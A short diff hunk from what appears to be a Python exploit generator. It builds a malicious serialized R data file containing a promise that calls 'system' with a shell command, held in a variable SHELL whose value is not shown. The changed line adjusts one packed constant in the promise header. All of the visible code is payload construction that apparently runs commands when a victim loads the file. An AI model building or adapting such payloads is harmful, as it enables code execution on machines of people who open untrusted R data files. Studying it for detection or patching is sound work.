@@ -189,5 +189,5 @@ def _() -> Made:
     symbol = struct.pack(">i", 1) + text("system")
     string = struct.pack(">ii", 0x10, 1) + text(SHELL)
     call = struct.pack(">i", 6) + symbol + struct.pack(">i", 2) + string + struct.pack(">i", 0xFE)
-    promise = struct.pack(">i", 0x405) + struct.pack(">i", 0xFD) + struct.pack(">i", 0xFB) + call
+    promise = struct.pack(">i", 0x405) + struct.pack(">i", 0xFD) + struct.pack(">i", 0xFC) + call
     return b"X\n" + struct.pack(">iii", 2, 0x00040301, 0x00020300) + promise
